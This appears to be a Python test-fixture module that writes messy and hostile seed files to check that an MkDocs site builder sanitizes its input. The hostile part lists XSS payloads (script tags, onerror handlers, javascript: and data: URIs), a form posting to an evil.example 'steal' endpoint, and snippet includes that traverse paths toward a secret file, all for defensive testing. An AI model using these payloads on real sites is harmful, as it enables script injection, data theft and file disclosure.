"""Seed folders as people really fill them: messy files and hostile text.

Each writer creates one case per file in a fresh folder, so the tests never
touch the real seeds/. Every decodable article carries a MARKER sentence of
its own: a test finds the article's page and looks for that sentence.
"""
from __future__ import annotations

import codecs
import os
import shutil
from dataclasses import dataclass
from functools import lru_cache
from pathlib import Path

from conftest import SEEDS, build_site, page


@dataclass(frozen=True)
class Build:
    """A corpus built by `mkdocs build`: where its seeds and site are, and what it said."""

    seeds: Path
    site: Path
    returncode: int
    log: str  # stdout and stderr

    def problem_lines(self) -> list[str]:
        """The build log's lines about files in seeds/, without the log prefix and folder."""
        prefix = f"{self.seeds}/"
        return [line.split(prefix, 1)[1] for line in self.log.splitlines() if prefix in line]

    def lines_about(self, file_name: str) -> list[str]:
        return [line for line in self.problem_lines() if line.startswith(f"{file_name}: ")]


def build(root: Path, seeds: Path, **options) -> Build:
    result = build_site(root / "build", seeds, **options)
    return Build(seeds, root / "build" / "site", result.returncode, result.stdout + result.stderr)


def source_pages_showing(site: Path, text: str) -> list[str]:
    """URL paths ("sources/x/") of the source pages whose article body shows `text`."""
    return [url for url, body in _article_texts(site).items() if text in body]


@lru_cache(maxsize=8)
def _article_texts(site: Path) -> dict[str, str]:
    texts = {}
    for html_file in sorted((site / "sources").glob("*/index.html")):
        url = f"sources/{html_file.parent.name}/"
        body = page(site, url).select_one("article")
        texts[url] = body.get_text() if body is not None else ""
    return texts


# ---------------------------------------------------------------------------
# Messy: encodings, sizes, broken front matter, odd names and non-articles.

SIMPLIFIED_SENTENCE = "小鹏汇天陆地航母的量产工厂下线，IRON人形机器人全身拥有82个自由度。"
TRADITIONAL_SENTENCE = "小鵬的二代VLA到底是什麼？人形機器人IRON會走貓步，飛行汽車量產工廠下線。"


def article(title: str, marker: str, date: str = "2025-11-05") -> str:
    """A small Simplified-Chinese article: a title, a byline and four paragraphs starting with `marker`."""
    body = "\n\n".join(paragraph(marker, n) for n in range(1, 5))
    return f"{title}\n\n来源: 测试网 发布时间: {date}\n\n{body}\n"


def traditional_article(title: str, marker: str) -> str:
    body = "\n\n".join(paragraph(marker, n, TRADITIONAL_SENTENCE) for n in range(1, 5))
    return f"{title}\n\n來源: 測試網 發佈時間: 2025-11-06\n\n{body}\n"


def paragraph(marker: str, n: int, sentence: str = SIMPLIFIED_SENTENCE) -> str:
    """The n-th paragraph of an article written by `article`, exactly as its page must show it."""
    return f"{marker}，第{n}段：{sentence}"


# file name → (title, marker) of every article that must get a page.
DECODABLE = {
    "gbk.txt": ("GBK 编码的文章", "这篇文章用GBK编码保存"),
    "big5.txt": ("Big5 編碼的文章", "這篇文章用Big5編碼保存"),
    "utf16.txt": ("UTF-16 编码的文章", "这篇文章用带BOM的UTF-16保存"),
    "utf16-no-bom.txt": ("无 BOM 的 UTF-16 文章", "这篇文章用不带BOM的UTF-16保存"),
    "utf8-bom.txt": ("带 BOM 的 UTF-8 文章", "这篇文章用带BOM的UTF-8保存"),
    "crlf.txt": ("Windows 换行的文章", "这篇文章用CRLF换行"),
    "lone-cr.txt": ("旧 Mac 换行的文章", "这篇文章只用CR换行"),
    "nul-bytes.txt": ("夹着 NUL 字节的文章", "这篇文章中间夹着NUL字节"),
    "huge.txt": ("二十兆字节的长文", "这篇文章有二十兆字节"),
    "one-line.txt": ("一兆字节只有一行的文章", "这篇文章的正文只有一行"),
    "with spaces.txt": ("文件名带空格的文章", "这篇文章的文件名里有空格"),
    "小鹏飞行汽车.txt": ("中文文件名的文章", "这篇文章的文件名是中文"),
    "Case.txt": ("大写文件名的文章", "这篇文章的文件名是大写的Case"),
    "case.txt": ("小写文件名的文章", "这篇文章的文件名是小写的case"),
    "slug-one.txt": ("第一篇想要同一网址的文章", "这篇文章第一个要求网址shared"),
    "slug-two.txt": ("第二篇想要同一网址的文章", "这篇文章第二个要求网址shared"),
    "bad-slug.txt": ("网址名试图跳出目录的文章", "这篇文章的网址名试图跳出目录"),
    "same-article-1.txt": ("同一篇文章存了两次", "这篇文章在seeds里有两份"),
    "unclosed-front-matter.txt": ("front matter 没有结束的文章", "这篇文章的front matter没有结束"),
    "invalid-yaml.txt": ("front matter 不是合法 YAML 的文章", "这篇文章的front matter不是合法YAML"),
    "wrong-types.txt": ("front matter 类型错误的文章", "这篇文章的front matter类型错误"),
}
HUGE_BYTES = 20_000_000
ONE_LINE_BYTES = 1_000_000
GIANTS = ("huge.txt", "one-line.txt")  # slow to build: written only when asked for

# file name → what its single problem line must say; file names of folders end in "/".
REJECTED = {
    "empty.txt": "empty",
    "whitespace-only.txt": "empty",
    "photo.txt": "binary",
    ".hidden-article.txt": "hidden",
    "linked.txt": "outside seeds/",
    "folder/": "sub-folder",
    "page.html": "no article text was found",  # a saved page is read; this one holds a single short line
    "report.docx": "'.docx' extension",
}
BUILT_WITH_WARNING = {
    "case.txt": "'case' is taken",
    "slug-two.txt": "'shared' is taken",
    "bad-slug.txt": "slug",
    "same-article-2.txt": "same article as same-article-1.txt",
    "unclosed-front-matter.txt": "never closed",
    "invalid-yaml.txt": "not valid YAML",
    "wrong-types.txt": "'title' should be text",
}
OUTSIDE_MARKER = "这段文字在seeds文件夹之外，绝不能出现在网站上"


def write_messy_seeds(root: Path, with_real_seeds: bool = True, giants: bool = False) -> Path:
    """root/seeds with every messy case, and root/outside/ that a symlink points into."""
    seeds = root / "seeds"
    if with_real_seeds:
        shutil.copytree(SEEDS, seeds)
    else:
        seeds.mkdir(parents=True)

    def text(name: str) -> str:
        return article(*DECODABLE[name])

    (seeds / "gbk.txt").write_bytes(text("gbk.txt").encode("gbk"))
    (seeds / "big5.txt").write_bytes(traditional_article(*DECODABLE["big5.txt"]).encode("big5"))
    (seeds / "utf16.txt").write_bytes(text("utf16.txt").encode("utf-16"))
    (seeds / "utf16-no-bom.txt").write_bytes(text("utf16-no-bom.txt").encode("utf-16-le"))
    (seeds / "utf8-bom.txt").write_bytes(codecs.BOM_UTF8 + text("utf8-bom.txt").encode("utf-8"))
    (seeds / "crlf.txt").write_bytes(text("crlf.txt").replace("\n", "\r\n").encode("utf-8"))
    (seeds / "lone-cr.txt").write_bytes(text("lone-cr.txt").replace("\n", "\r").encode("utf-8"))
    # NULs after every comma and full stop: about a tenth of the file's bytes.
    nul_text = text("nul-bytes.txt").replace("，", "，\x00\x00\x00\x00\x00").replace("。", "。\x00\x00\x00\x00\x00")
    (seeds / "nul-bytes.txt").write_bytes(nul_text.encode("utf-8"))
    if giants:
        write_giants(seeds)
    for name in ("with spaces.txt", "小鹏飞行汽车.txt", "Case.txt", "case.txt"):
        (seeds / name).write_text(text(name), encoding="utf-8")
    for name in ("slug-one.txt", "slug-two.txt"):
        (seeds / name).write_text("---\nslug: shared\n---\n" + text(name), encoding="utf-8")
    (seeds / "bad-slug.txt").write_text("---\nslug: ../../escaped\n---\n" + text("bad-slug.txt"), encoding="utf-8")
    # The same article twice: once as UTF-8, once as GBK with Windows line ends.
    (seeds / "same-article-1.txt").write_text(text("same-article-1.txt"), encoding="utf-8")
    (seeds / "same-article-2.txt").write_bytes(text("same-article-1.txt").replace("\n", "\r\n").encode("gbk"))
    (seeds / "unclosed-front-matter.txt").write_text("---\nauthor: 某人\n\n" + text("unclosed-front-matter.txt"), encoding="utf-8")
    (seeds / "invalid-yaml.txt").write_text("---\ntitle: [没有闭合\nauthor: : :\n---\n" + text("invalid-yaml.txt"), encoding="utf-8")
    (seeds / "wrong-types.txt").write_text(
        "---\ntitle: [一个, 列表]\ndate: next week\n---\n" + text("wrong-types.txt"), encoding="utf-8"
    )

    (seeds / "empty.txt").write_bytes(b"")
    (seeds / "whitespace-only.txt").write_bytes(b"  \n\t\r\n \xe3\x80\x80\n")  # ends with an ideographic space
    (seeds / "photo.txt").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 16)
    (seeds / ".hidden-article.txt").write_text(article("隐藏文件里的文章", "这篇文章的文件名以点开头"), encoding="utf-8")
    (seeds / ".DS_Store").write_bytes(b"\x00\x00\x00\x01Bud1" + bytes(64))  # macOS noise: ignored silently
    outside = root / "outside"
    outside.mkdir()
    (outside / "article.txt").write_text(article("seeds 之外的文章", OUTSIDE_MARKER), encoding="utf-8")
    os.symlink(outside / "article.txt", seeds / "linked.txt")
    (seeds / "folder").mkdir()
    (seeds / "folder" / "inner.txt").write_text(article("子文件夹里的文章", "这篇文章在子文件夹里"), encoding="utf-8")
    (seeds / "page.html").write_text("<html><body><p>一篇存成网页的文章</p></body></html>", encoding="utf-8")
    (seeds / "report.docx").write_bytes(b"PK\x03\x04\x14\x00\x06\x00" + bytes(200))
    return seeds


def write_giants(seeds: Path) -> None:
    (seeds / "huge.txt").write_text(_huge_article(*DECODABLE["huge.txt"]), encoding="utf-8")
    (seeds / "one-line.txt").write_text(_one_line_article(*DECODABLE["one-line.txt"]), encoding="utf-8")


def _huge_article(title: str, marker: str) -> str:
    """About HUGE_BYTES of real seed paragraphs, Chinese and English, repeated."""
    paragraphs = [
        line.strip()
        for name in ("000_8aa7ed600137bead.txt", "004_2a4aa61ecc6eb6e2.txt")
        for line in (SEEDS / name).read_text(encoding="utf-8").split("\n")
        if len(line.strip()) > 60
    ]
    parts = [title, "", "来源: 测试网 发布时间: 2025-11-07", "", f"{marker}。", ""]
    size, n = 0, 0
    while size < HUGE_BYTES:
        # Numbered so the paragraphs are not identical (and keep distinct anchors cheaply).
        line = f"（{n}）{paragraphs[n % len(paragraphs)]}"
        parts += [line, ""]
        size += len(line.encode("utf-8")) + 2
        n += 1
    return "\n".join(parts)


ONE_LINE_SENTENCE = "IRON机器人*全身* 82个自由度_(见[1])_ <b>2025-11-05</b> & `VLA` #模型 | 陆地航母\\订单! "
ONE_LINE_REPEATS = ONE_LINE_BYTES // len(ONE_LINE_SENTENCE.encode("utf-8")) + 1


def _one_line_article(title: str, marker: str) -> str:
    """One paragraph of ONE_LINE_BYTES, full of characters Markdown would treat as syntax."""
    return f"{title}\n\n来源: 测试网 发布时间: 2025-11-08\n\n{marker}：" + ONE_LINE_SENTENCE * ONE_LINE_REPEATS + "\n"


# ---------------------------------------------------------------------------
# Hostile: article text that is HTML, Markdown, MkDocs or template syntax.

SECRET = "KB-SECRET-6b1f0c4e-never-published"
# Every alert() in the hostile text names itself, so a dialog says which line fired.
HOSTILE_LINES = [
    "<script>alert('kb-script')</script>",
    "<iframe src=\"http://evil.example/frame\"></iframe>",
    "<img src=\"http://evil.example/pixel.png\" onerror=\"alert('kb-img')\">",
    "<style>body { display: none }</style>",
    "<svg onload=\"alert('kb-svg')\"><circle r=\"9\"/></svg>",
    "<a href=\"javascript:alert('kb-a')\">点我</a>",
    "<link rel=\"stylesheet\" href=\"http://evil.example/x.css\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\">",
    "<base href=\"http://evil.example/\">",
    "<object data=\"http://evil.example/x.swf\"></object>",
    "<form action=\"http://evil.example/steal\"><input name=\"q\"></form>",
    "<div markdown=\"1\">**md_in_html 块**</div>",
    "<p class=\"kb-para\" id=\"evil-para\"><img src=x onerror=\"alert('kb-forged')\"></p>",
    "[javascript 链接](javascript:alert('kb-md-link'))",
    "[data 链接](data:text/html;base64,PHNjcmlwdD5hbGVydCgna2ItZGF0YScpPC9zY3JpcHQ+)",
    "![javascript 图片](javascript:alert('kb-md-image'))",
    "![data 图片](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "行内的 ![远程图片](http://evil.example/inline.png) 不是整行图片",
    "[外部链接](http://evil.example/page) 和 <http://evil.example/autolink>",
    "# 看起来像一级标题的一行",
    "## 看起来像二级标题的一行",
    "--- 以三条横线开头的一行",
    "!!! note \"伪造的提示框\"",
    "??? danger \"伪造的折叠框\"",
    "这一行结尾有属性列表 {#evil-id .evil-class onclick=\"alert('kb-attr')\"}",
    "{: #evil-block .evil-class }",
    "这一行有脚注标记[^1]。",
    "[^1]: 伪造的脚注定义",
    "*[IRON]: 伪造的缩写定义",
    "IRON 机器人的这一行不应出现 abbr 元素",
    "--8<-- \"secret.txt\"",
    "--8<-- \"../secret.txt\"",
    "--8<-- \"{secret_path}\"",
    "模板语法 {{ config.site_name }} 与 {% include \"partials/header.html\" %} 原样显示",
    "<!-- 一段 HTML 注释 -->",
    "| 表头一 | 表头二 |",
    "| --- | --- |",
    "> 看起来像引用的一行",
    "1. 看起来像有序列表的一行",
    "- 看起来像无序列表的一行",
    "***看起来像粗斜体的一行***",
    "`看起来像代码` 与 &lt;script&gt; 实体 &amp; \\<反斜杠\\>",
    "双向文字\u202e覆盖\u202c与零\u200b宽\u200d字符",
]
# The bold line becomes a sub-heading (cleaning rule): its text must stay text there too.
HOSTILE_HEADING = "**<img src=x onerror=alert('kb-heading')>**"
HOSTILE_FILE_NAME = "evil`<img src=x onerror=alert('kb-file')>`.txt"
HOSTILE_TITLE_LINE = "<script>alert('kb-title-line')</script>标题行"


def write_hostile_seeds(root: Path) -> Path:
    """root/seeds with hostile articles, and the SECRET in files a snippet include would reach."""
    seeds = root / "seeds"
    seeds.mkdir(parents=True)
    secret_path = root / "secret.txt"
    for place in (secret_path, root / "build" / "secret.txt"):
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(SECRET + "\n", encoding="utf-8")
    lines = [line.replace("{secret_path}", str(secret_path)) for line in HOSTILE_LINES]
    front_matter = (
        "---\n"
        "title: \"<script>alert('kb-title')</script>{{ config.site_name }}\"\n"
        "author: \"<img src=x onerror=alert('kb-author')>\"\n"
        "outlet: \"[outlet](javascript:alert('kb-outlet'))\"\n"
        "date: 2025-11-05\n"
        "date_note: \"<b>粗体</b> {% raw %}\"\n"
        "---\n"
    )
    body = "\n\n".join(["恶意文章的第一段是正常的。", HOSTILE_HEADING, *lines, "恶意文章的最后一段也是正常的。"])
    (seeds / "hostile.txt").write_text(front_matter + body + "\n", encoding="utf-8")
    (seeds / HOSTILE_FILE_NAME).write_text(article("文件名带 HTML 的文章", "这篇文章的文件名里有HTML"), encoding="utf-8")
    (seeds / "title-line.txt").write_text(article(HOSTILE_TITLE_LINE, "这篇文章的标题行是脚本"), encoding="utf-8")
    (seeds / "benign.txt").write_text(article("一篇普通的文章", "这篇文章没有任何花样"), encoding="utf-8")
    return seeds
